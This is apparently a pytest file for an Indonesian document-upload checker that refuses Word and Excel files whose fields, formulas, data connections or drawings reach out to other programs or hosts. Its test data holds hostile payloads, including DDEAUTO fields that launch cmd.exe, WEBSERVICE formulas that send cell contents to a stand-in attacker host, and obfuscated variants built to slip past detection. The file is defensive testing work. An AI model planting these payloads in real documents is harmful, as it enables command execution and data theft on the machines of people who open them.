"""Nothing in an office document asks a program or another place when it is opened: no field, no formula, no connection."""

from __future__ import annotations

from html import escape

import pytest

from dokumen import kantor_isi
from dokumen.errors import BerkasDitolakError
from dokumen.periksa import periksa
from tests.berkas_uji import docx, unggahan, zip_

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def naskah(isi: str) -> bytes:
    return docx(**{"word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{isi}</w:body></w:document>'})


def ruas(*potongan: str) -> str:
    """A field of Word, in so many runs."""
    isi = "".join(f"<w:r><w:instrText>{escape(p)}</w:instrText></w:r>" for p in potongan)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{isi}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def xlsx(**bagian: str) -> bytes:
    return zip_({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"} | bagian)


def rumus(isi: str) -> bytes:
    return xlsx(**{"xl/worksheets/sheet1.xml": f"<x:worksheet xmlns:x='a'><x:c><x:f>{isi}</x:f></x:c></x:worksheet>"})


def ditolak(nama: str, isi: bytes) -> bool:
    with pytest.raises(BerkasDitolakError, match="mengambil isi dari tempat lain") as galat:
        periksa(unggahan(nama, isi))
    return "Cetak ke PDF" in galat.value.fix


def disimpan(nama: str, isi: bytes) -> bool:
    return periksa(unggahan(nama, isi)).isi == isi


BURUK = [
    r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" ', "dde excel a b", r'INCLUDEPICTURE "http://penyerang.example/a.png" \d',
    r'INCLUDETEXT "\\\\10.0.0.9\\bagi\\a.docx"', r'IMPORT "\\10.0.0.9\bagi\a.png"', r"INCLUDEPICTURE //10.0.0.9/a.png",
    'LINK htmlfile "mhtml:http://penyerang.example/a.hta"', r'LINK Word.Document.8 "file://10.0.0.9/a.docx"', r'DATABASE \c "DSN=a"',
    'RD "http://penyerang.example/a.docx"', r'RD "\\\\10.0.0.9\\a.docx" \f',
]  # fmt: skip
BAIK = [
    "PAGE", r'TOC \o "1-3" \h \z \u', 'HYPERLINK "https://sibolgakota.go.id/link"', "MERGEFIELD Nama", r'DATE \@ "d MMMM yyyy"',
    "REF _Ref1 ", "=1+2", 'IF "a" = "b" "DDE" "IMPORT http://a"', r'INCLUDEPICTURE "C:\\Foto\\kop.png" \* MERGEFORMAT',
    r'LINK Excel.Sheet.12 "C:\\Data\\Rekap.xlsx" "Sheet1!R1C1" \a \f 5', r'INCLUDEPICTURE "file:///C:\\kop.png"',
    r'RD "Bab 2.docx" \f',
]  # fmt: skip


@pytest.mark.parametrize("kode", BURUK)
def test_a_field_that_asks_a_program_or_another_place_is_refused(kode: str) -> None:
    assert ditolak("a.docx", naskah(ruas(kode)))
    assert ditolak("a.docx", naskah(ruas(*kode)))
    assert ditolak("a.docx", naskah(f'<w:fldSimple w:instr="{escape(kode)}"/>'))
    assert ditolak("a.docx", naskah(f'<w:fldSimple xmlns:b="b" w:instr="{escape(kode)}" b:instr="PAGE"/>'))
    for nama in ("word/header1.xml", "word/media/a.png"):
        assert ditolak("a.docx", docx(**{nama: f'<a xmlns:w="{W}">{ruas("PAGE")}{ruas(kode)}</a>'}))
    assert ditolak("a.docx", docx(**{"word/a.xml": f'<a xmlns:w="{W}">{ruas(kode)}</a>'.encode("utf-16")}))


@pytest.mark.parametrize("kode", BAIK)
def test_plain_fields_are_kept(kode: str) -> None:
    assert disimpan("a.docx", naskah(ruas("PAGE") + ruas(*kode) + f'<w:fldSimple w:instr="{escape(kode)}"/>'))


def test_the_name_of_a_field_is_not_put_together_by_others() -> None:
    dalam = ruas("QUOTE 65")
    mulai = '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText>'

    assert ditolak("a.docx", naskah(mulai + dalam + "<w:instrText>AUTO a b</w:instrText>"))
    assert ditolak("a.docx", naskah(mulai.replace("DDE", "INCLUDEPICTURE ") + dalam))
    for awal, akhir in (
        ('INCLUDEPICTURE "', '" \\d'),
        (" INCLUDEPICTURE \\d ", ""),
        ("INCLUDETEXT ", ""),
        ("LINK Excel.Sheet.12 ", ""),
    ):
        for tengah in (ruas(' QUOTE "http://penyerang.example/a.png" '), '<w:fldSimple w:instr="QUOTE 65"/>'):
            assert ditolak(
                "a.docx", naskah(mulai.replace("DDE", escape(awal)) + tengah + f"<w:instrText>{escape(akhir)}</w:instrText>")
            )
    assert disimpan("a.docx", naskah(ruas('INCLUDEPICTURE "C:\\Foto\\kop.png"') + dalam))
    assert disimpan("a.docx", naskah(mulai.replace("DDE", "=") + dalam + "<w:instrText>- 1</w:instrText>"))


@pytest.mark.parametrize(
    "isi",
    [
        '_xlfn.WEBSERVICE("http://penyerang.example/?"&amp;A2)', "webservice (A1)", "&#87;EBSERVICE(A1)", "WEB<!-- -->SERVICE(A1)",
        "<![CDATA[WEBSERVICE(A1)]]>", 'RTD("a",,"b")', "cmd|'/c calc.exe'!A1", "'cmd'|'/c calc.exe'!A1", 'DDE("cmd";"/c calc")',
        '_xlfn.IMAGE("https://penyerang.example/a.png")', 'SUM(1)+CALL("a","b","c")',
        """T['[]&amp;WEBSERVICE("http://penyerang.example")&amp;T['[]""", "T['[]&amp;cmd|x!A1&amp;T['[]", """'a"b'!A1&amp;RTD(1)&amp;'a"b'!A1""",
        """T[a"b]&amp;RTD(1)&amp;T[a"b]""", "'a'&amp;RTD(1)&amp;'b'", "'RTD(1)'!A1",
        "_xlfn.MAP(B1:B3,_xleta.WEBSERVICE)", '_xlfn.LET(f,WEBSERVICE,f("http://penyerang.example"))', "LET(f, webservice ;f(A1))",
        "REDUCE('A b'!A1,T[a],_xlfn.IMAGE)", "MAP(T['[],RTD)", "_xleta.CALL", "MAP(A1,_xleta.REGISTER.ID)", "MAP(A1,_xleta.&#82;TD)",
    ],
)  # fmt: skip
def test_a_formula_that_asks_a_program_or_another_place_is_refused(isi: str) -> None:
    assert ditolak("a.xlsx", rumus(isi))
    assert ditolak("a.xlsx", xlsx(**{"xl/workbook.xml": f"<workbook><definedName name='a'>{isi}</definedName></workbook>"}))


@pytest.mark.parametrize(
    "isi",
    [
        "SUM(A1:A9)", 'HYPERLINK("https://sibolgakota.go.id","a|b")', "'A|B'!A1", '"RTD("&amp;A1', "FILTERXML(A1,B1)", "Tabel[a|b]",
        "[1]Rekap!A1", "'Jum''at'!A1&amp;\"RTD(\"", "\"Jum'at\"&amp;\"RTD(\"", "CEILING(A1,1)&amp;&#34;x&#34;", "MYRTD(1)",
        "Image!A1", "'Call Center'!A1+1", "Tabel[Image]", "SUM(Call_1,Foto.Image,image2,Gambarimage)", 'IF(T[a]="Call",\'A b\'!A1,"RTD")',
        "Rekap!Image", "'[1]Call'!A1", "T[[#This Row],[Image]]&amp;\"WEBSERVICE\"",
    ],
)  # fmt: skip
def test_plain_formulas_are_kept(isi: str) -> None:
    assert disimpan("a.xlsx", rumus(isi))


@pytest.mark.parametrize(
    "isi",
    [
        '<connection id="1"><webPr url="http://penyerang.example"/></connection>', '<connection id="1" refreshOnLoad="1"/>',
        '<connection id="1"><dbPr connection="a" command="b"/></connection>', '<connection id="1"><olapPr/></connection>',
        r'<connection id="1"><textPr sourceFile="\\10.0.0.9\a.csv"/></connection>', '<queryTable name="a" refreshOnLoad="true"/>',
        '<connection id="1" odcFile="http://penyerang.example/a.odc"/>', '<v:imagedata xmlns:v="v" src="http://penyerang.example/a.png"/>',
        '<v:fill xmlns:v="v" xmlns:o="o" o:href="//10.0.0.9/a.png"/>',
    ],
)  # fmt: skip
def test_a_connection_or_a_drawing_that_asks_another_place_is_refused(isi: str) -> None:
    assert ditolak("a.xlsx", xlsx(**{"xl/connections.xml": f"<connections>{isi}</connections>"}))
    assert ditolak("a.xlsx", xlsx(**{"xl/lain.vml": f"<xml>{isi}<br></xml>"}))


def test_a_drawing_of_an_old_program_and_a_text_file_of_the_writer_are_kept() -> None:
    gambar = '<xml xmlns:v="v"><v:imagedata src="cid:a.png"/><v:fill color="red"/><br></xml>'
    teks = r'<connections><connection id="1"><textPr sourceFile="C:\Data\a.csv"/></connection></connections>'

    assert disimpan("a.xlsx", xlsx(**{"xl/drawings/vmlDrawing1.vml": gambar, "xl/connections.xml": teks}))
    assert disimpan("a.docx", docx(**{"word/media/a.svg": '<!DOCTYPE svg><svg><image href="a.png"/></svg>'}))


def test_what_is_looked_for_is_found_across_two_pieces_and_no_more_is_parsed_than_a_limit(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for n in range(1, 12):
        isi = f"<w:document xmlns:w='{W}'>".ljust(kantor_isi.POTONGAN - n) + "<w:fldSimple w:instr='DDE a'/></w:document>"
        assert ditolak("a.docx", docx(**{"word/document.xml": isi}))
    monkeypatch.setattr(kantor_isi, "DIURAI_MAKS", 100)
    with pytest.raises(BerkasDitolakError):
        periksa(unggahan("a.docx", naskah(ruas("PAGE") * 9)))


def test_a_part_without_any_of_this_is_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(kantor_isi, "_bagian_mengambil", lambda _arsip, bagian: pytest.fail(bagian.filename))

    isi = xlsx(**{"xl/worksheets/sheet1.xml": "<worksheet><row hidden='1'><c><f>SUM(A1)</f><v>1</v></c></row></worksheet>"})
    assert disimpan("a.xlsx", isi)
